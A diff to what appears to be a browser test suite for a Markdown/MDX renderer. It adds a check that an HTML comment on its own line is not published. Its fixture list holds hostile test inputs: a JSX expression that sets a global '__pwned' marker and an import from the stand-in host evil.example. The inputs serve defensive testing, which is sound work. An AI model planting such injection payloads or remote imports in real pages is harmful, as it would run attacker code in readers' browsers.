@@ -70,7 +70,6 @@ const VISIBLE: Record<string, string[]> = {
     'export default function Layout() { return null }',
     "import { readFileSync } from 'node:fs'",
     "<Component prop={globalThis.__pwned = 'h903-jsx'} />",
-    '<!-- HTML 注释 -->',
     'a<b 且 c>d，x <= y，价格 $5，折扣后 $3，{{ 双花括号 }}',
     '<>片段</> 与 <Foo.Bar /> 与 <foo:bar /> 与 <x {...props} />',
     "import evil from 'https://evil.example/x.js';",
@@ -292,6 +291,9 @@ describe('hostile pages in Chromium', () => {
           const answers = new Set(text.match(/ANSWER-\d+/gu));
           if (answers.size !== 1000) missing.push(`${path}: ${answers.size} of 1000 answers visible`);
         }
+        // An HTML comment on a line of its own is hidden, as in every Markdown viewer (html-comments.ts), and
+        // it is not in the page as markup either.
+        if (n === '903' && (await page.content()).includes('HTML 注释')) missing.push(`${path}: the HTML comment was published`);
         if (n === '904') {
           const all = await page.evaluate(() => document.body.textContent ?? '');
           for (const s of MATH_SOURCES) if (!all.includes(s)) missing.push(`${path}: formula source 「${s}」`);
